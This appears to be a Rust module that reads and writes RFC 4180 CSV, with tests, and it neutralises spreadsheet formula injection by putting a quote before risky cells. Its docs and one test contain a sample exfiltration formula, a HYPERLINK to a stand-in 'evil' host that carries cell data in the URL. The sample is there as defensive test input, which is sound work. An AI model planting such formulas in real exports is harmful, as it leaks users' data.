//! RFC 4180 CSV, read and written at the byte level.
//!
//! The reader accepts what the interchange format allows: an optional UTF-8
//! byte-order mark, LF, CRLF or (old Mac) CR line ends, and fields in double
//! quotes with `""` for a quote and line breaks inside. A quote inside an
//! unquoted field is taken literally, as most spreadsheet programs do; text
//! after a closing quote and a quote never closed are errors. Empty lines, and
//! lines of only spaces and tabs, are skipped. Fields come out as bytes: checking UTF-8 is the caller's job, so
//! that it can name the field that is wrong.
//!
//! Each record reports the 1-based line it starts on, counting the line breaks
//! inside quoted fields, so errors point at the line an editor shows.
//!
//! ## Formula injection
//!
//! Every CSV written here is meant to be opened in a spreadsheet, and a
//! spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return as a formula (`=HYPERLINK("http://evil/?d="&B2,"click")`
//! typed as a call-back name would send the row away). So a **text** cell is
//! written *neutralised* (OWASP): when it begins with one of those characters,
//! or with one or more `'` followed by one of them, one `'` is put in front.
//! Reading a text cell ([`restore`]) takes one `'` off exactly when the cell is
//! `'`, then any number of `'`, then one of those characters — the cells the
//! writer produces — and leaves every other cell as it is. The rule is a
//! bijection: `restore(neutralise(t)) == t` for every text, and a cell that
//! nobody neutralised (`=1+1`, `-3 dB`, `'plain`) reads as written. Numbers
//! (scale answers) are not text: they are written and read as they are
//! ([`Cell::Number`]).

use std::borrow::Cow;

use crate::error::{Problem, ProblemCode};

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Reads records from a CSV file held in memory.
#[derive(Debug)]
pub struct Reader<'a> {
    src: &'a [u8],
    pos: usize,
    line: usize,
}

impl<'a> Reader<'a> {
    /// A reader over `src`, skipping a leading byte-order mark.
    pub fn new(src: &'a [u8]) -> Self {
        let src = src.strip_prefix(BOM).unwrap_or(src);
        Reader {
            src,
            pos: 0,
            line: 1,
        }
    }

    /// The input after any byte-order mark, the byte offset reached in it and
    /// the line that offset is on.
    pub(crate) fn position(&self) -> (&'a [u8], usize, usize) {
        (self.src, self.pos, self.line)
    }

    /// A reader over `src`, which starts at line `line` of a file, where a
    /// record starts (a byte-order mark there is not skipped: it is text).
    pub(crate) fn resume(src: &'a [u8], line: usize) -> Self {
        Reader { src, pos: 0, line }
    }

    /// Reads the next record into `fields` (cleared first) and returns the line
    /// it starts on, `None` at the end of the input, or the problem that makes
    /// the record unreadable (the reader has then moved past it).
    pub fn read_record(
        &mut self,
        fields: &mut Vec<Cow<'a, [u8]>>,
    ) -> Option<Result<usize, Problem>> {
        loop {
            fields.clear();
            if self.pos >= self.src.len() {
                return None;
            }
            let start_line = self.line;
            let mut problem = None;
            let mut only_empty = true;
            loop {
                let quoted = self.src[self.pos] == b'"';
                let field = if quoted {
                    only_empty = false;
                    match self.quoted_field() {
                        Ok(f) => f,
                        Err(code) => {
                            let message = match code {
                                ProblemCode::UnterminatedQuote => {
                                    "a quoted field is never closed: the file ends inside it"
                                }
                                _ => "text after the closing quote of a quoted field",
                            };
                            problem.get_or_insert(
                                Problem::new(code, message).at_line(start_line).at_column(
                                    fields.len() + 1,
                                    format!("field {}", fields.len() + 1),
                                ),
                            );
                            Cow::Borrowed(&b""[..])
                        }
                    }
                } else {
                    let begin = self.pos;
                    while self.pos < self.src.len()
                        && !matches!(self.src[self.pos], b',' | b'\n' | b'\r')
                    {
                        self.pos += 1;
                    }
                    if self.src[begin..self.pos]
                        .iter()
                        .any(|&b| b != b' ' && b != b'\t')
                    {
                        only_empty = false;
                    }
                    Cow::Borrowed(&self.src[begin..self.pos])
                };
                fields.push(field);
                match self.src.get(self.pos) {
                    Some(b',') => {
                        only_empty = false;
                        self.pos += 1;
                        if self.pos == self.src.len() {
                            // A trailing comma at the very end: one more empty field.
                            fields.push(Cow::Borrowed(&b""[..]));
                            break;
                        }
                    }
                    Some(b'\r') => {
                        self.pos += 1;
                        if self.src.get(self.pos) == Some(&b'\n') {
                            self.pos += 1;
                        }
                        self.line += 1;
                        break;
                    }
                    Some(b'\n') => {
                        self.pos += 1;
                        self.line += 1;
                        break;
                    }
                    _ => break,
                }
            }
            if let Some(p) = problem {
                return Some(Err(p));
            }
            if only_empty {
                continue;
            }
            return Some(Ok(start_line));
        }
    }

    /// Reads a quoted field starting at the opening quote, leaving `pos` on the
    /// delimiter after it. On text after the closing quote, skips to the delimiter.
    fn quoted_field(&mut self) -> Result<Cow<'a, [u8]>, ProblemCode> {
        let src = self.src;
        self.pos += 1;
        let begin = self.pos;
        let mut owned: Option<Vec<u8>> = None;
        let mut chunk = begin;
        loop {
            let Some(&b) = src.get(self.pos) else {
                return Err(ProblemCode::UnterminatedQuote);
            };
            match b {
                b'"' if src.get(self.pos + 1) == Some(&b'"') => {
                    let buf = owned.get_or_insert_with(Vec::new);
                    buf.extend_from_slice(&src[chunk..=self.pos]);
                    self.pos += 2;
                    chunk = self.pos;
                }
                b'"' => {
                    let field = match owned {
                        Some(mut buf) => {
                            buf.extend_from_slice(&src[chunk..self.pos]);
                            Cow::Owned(buf)
                        }
                        None => Cow::Borrowed(&src[begin..self.pos]),
                    };
                    self.pos += 1;
                    if self.pos < src.len() && !matches!(src[self.pos], b',' | b'\n' | b'\r') {
                        while self.pos < src.len() && !matches!(src[self.pos], b',' | b'\n' | b'\r')
                        {
                            self.pos += 1;
                        }
                        return Err(ProblemCode::TextAfterQuote);
                    }
                    return Ok(field);
                }
                b'\n' => {
                    self.line += 1;
                    self.pos += 1;
                }
                b'\r' => {
                    if src.get(self.pos + 1) != Some(&b'\n') {
                        self.line += 1;
                    }
                    self.pos += 1;
                }
                _ => self.pos += 1,
            }
        }
    }
}

/// Whether a spreadsheet would run `cell` as a formula, or whether it is such
/// a cell behind quotes (`'*` then `=`, `+`, `-`, `@`, tab or CR).
fn guarded(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A text cell as it is written: with one more `'` in front if it begins with
/// a formula character, or with quotes and then one (see the module docs).
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if guarded(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as it is read: the inverse of [`neutralise`], so one `'` is
/// taken off a cell that is `'`, then quotes, then a formula character; any
/// other cell is the text itself.
#[inline]
pub fn restore(cell: &str) -> &str {
    if !cell.starts_with('\'') {
        return cell;
    }
    match cell.strip_prefix('\'') {
        Some(rest) if guarded(rest) => rest,
        _ => cell,
    }
}

/// One cell of a record to write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cell<'s> {
    /// Text: written [`neutralise`]d.
    Text(&'s str),
    /// A number (or a code that is never text, such as a scale answer):
    /// written as it is.
    Number(&'s str),
}

/// Appends `field` to `out` as it is, quoted when it holds a comma, a quote or
/// a line break, or begins or ends with a space (which some readers trim).
/// Text cells go through [`neutralise`] first ([`write_record`], [`write_cells`]).
pub fn write_field(out: &mut Vec<u8>, field: &str) {
    let needs_quotes = field
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
        || field.starts_with(' ')
        || field.ends_with(' ');
    if needs_quotes {
        out.push(b'"');
        for b in field.bytes() {
            if b == b'"' {
                out.push(b'"');
            }
            out.push(b);
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(field.as_bytes());
    }
}

/// Appends one record of text cells, each [`neutralise`]d, separated by commas
/// and ended by CRLF (RFC 4180).
pub fn write_record<'s>(out: &mut Vec<u8>, fields: impl IntoIterator<Item = &'s str>) {
    write_cells(out, fields.into_iter().map(Cell::Text));
}

/// Appends one record: text cells [`neutralise`]d, numbers as they are,
/// separated by commas and ended by CRLF (RFC 4180).
pub fn write_cells<'s>(out: &mut Vec<u8>, cells: impl IntoIterator<Item = Cell<'s>>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        match cell {
            Cell::Text(t) => write_field(out, &neutralise(t)),
            Cell::Number(n) => write_field(out, n),
        }
    }
    out.extend_from_slice(b"\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_all(src: &[u8]) -> Vec<Result<(usize, Vec<String>), ProblemCode>> {
        let mut r = Reader::new(src);
        let mut fields = Vec::new();
        let mut out = Vec::new();
        while let Some(rec) = r.read_record(&mut fields) {
            out.push(match rec {
                Ok(line) => Ok((
                    line,
                    fields
                        .iter()
                        .map(|f| String::from_utf8_lossy(f).into_owned())
                        .collect(),
                )),
                Err(p) => Err(p.code),
            });
        }
        out
    }

    fn rec(line: usize, fields: &[&str]) -> Result<(usize, Vec<String>), ProblemCode> {
        Ok((line, fields.iter().map(|s| s.to_string()).collect()))
    }

    #[test]
    fn line_endings_and_bom() {
        for src in [
            &b"a,b\nc,d\n"[..],
            b"a,b\r\nc,d\r\n",
            b"a,b\rc,d",
            b"\xEF\xBB\xBFa,b\nc,d",
        ] {
            assert_eq!(
                read_all(src),
                [rec(1, &["a", "b"]), rec(2, &["c", "d"])],
                "{src:?}"
            );
        }
    }

    #[test]
    fn quoting_and_lines_inside_quotes() {
        let src = b"id,note\n\"x,1\",\"say \"\"hi\"\"\nthen\r\nbye\"\nz,\"\"\n";
        assert_eq!(
            read_all(src),
            [
                rec(1, &["id", "note"]),
                rec(2, &["x,1", "say \"hi\"\nthen\r\nbye"]),
                rec(5, &["z", ""])
            ]
        );
    }

    #[test]
    fn empty_fields_and_blank_lines() {
        assert_eq!(
            read_all(b"a,,\n\n,\n"),
            [rec(1, &["a", "", ""]), rec(3, &["", ""])]
        );
        assert_eq!(read_all(b"a,"), [rec(1, &["a", ""])]);
        assert_eq!(read_all(b"a\n  \t \nb\n"), [rec(1, &["a"]), rec(3, &["b"])]);
        assert_eq!(read_all(b""), []);
    }

    #[test]
    fn literal_quote_in_unquoted_field() {
        assert_eq!(read_all(b"5\" screen,b\n"), [rec(1, &["5\" screen", "b"])]);
    }

    #[test]
    fn malformed_quotes_are_problems_and_reading_goes_on() {
        assert_eq!(
            read_all(b"a,\"b\"c,d\ne,f\n"),
            [Err(ProblemCode::TextAfterQuote), rec(2, &["e", "f"])]
        );
        assert_eq!(
            read_all(b"a,b\n\"c,d\n"),
            [rec(1, &["a", "b"]), Err(ProblemCode::UnterminatedQuote)]
        );
    }

    #[test]
    fn writer_quotes_only_when_needed() {
        let mut out = Vec::new();
        write_record(
            &mut out,
            ["plain", "a,b", "say \"hi\"", "two\nlines", " pad", "中文"],
        );
        assert_eq!(
            String::from_utf8(out).expect("utf8"),
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\",中文\r\n"
        );
    }

    #[test]
    fn text_cells_that_a_spreadsheet_would_run_get_a_quote() {
        let mut out = Vec::new();
        write_record(
            &mut out,
            [
                "=HYPERLINK(\"http://evil/?d=\"&B2,\"click\")",
                "+1",
                "-2",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "'=already",
                "''+twice",
                "'plain",
                "a=b",
                "",
            ],
        );
        assert_eq!(
            String::from_utf8(out).expect("utf8"),
            "\"'=HYPERLINK(\"\"http://evil/?d=\"\"&B2,\"\"click\"\")\",'+1,'-2,'@SUM(A1),'\tx,\
             \"'\rx\",''=already,'''+twice,'plain,a=b,\r\n"
        );
        let mut out = Vec::new();
        write_cells(
            &mut out,
            [Cell::Number("-5"), Cell::Text("-5"), Cell::Number("10")],
        );
        assert_eq!(out, b"-5,'-5,10\r\n");
    }

    #[test]
    fn restore_takes_off_exactly_the_quote_the_writer_added() {
        for (text, cell) in [
            ("=1+1", "'=1+1"),
            ("\t", "'\t"),
            ("\r", "'\r"),
            ("'-", "''-"),
            ("''@", "'''@"),
            ("'", "'"),
            ("''", "''"),
            ("'x", "'x"),
            ("x=1", "x=1"),
            ("", ""),
            (" =1", " =1"),
        ] {
            assert_eq!(neutralise(text), cell, "{text:?}");
            assert_eq!(restore(cell), text, "{cell:?}");
        }
        // Cells nobody neutralised read as written.
        for cell in ["=1+1", "-3 dB", "@home", "'plain", "中文"] {
            assert_eq!(restore(cell), cell);
        }
    }

    proptest::proptest! {
        #[test]
        fn neutralise_is_safe_and_restore_inverts_it(
            text in "['=+@\\-\t\r \"a中]{0,5}.{0,3}"
        ) {
            let cell = neutralise(&text);
            proptest::prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
            proptest::prop_assert_eq!(restore(&cell), text.as_str());
            // What the writer writes, the reader reads as the same cell.
            let mut out = Vec::new();
            write_record(&mut out, ["start", text.as_str(), "end"]);
            let read = read_all(&out);
            proptest::prop_assert_eq!(read.len(), 1);
            let fields = read[0].clone().map(|(_, f)| f).unwrap_or_default();
            proptest::prop_assert_eq!(restore(&fields[1]), text.as_str());
        }
    }
}
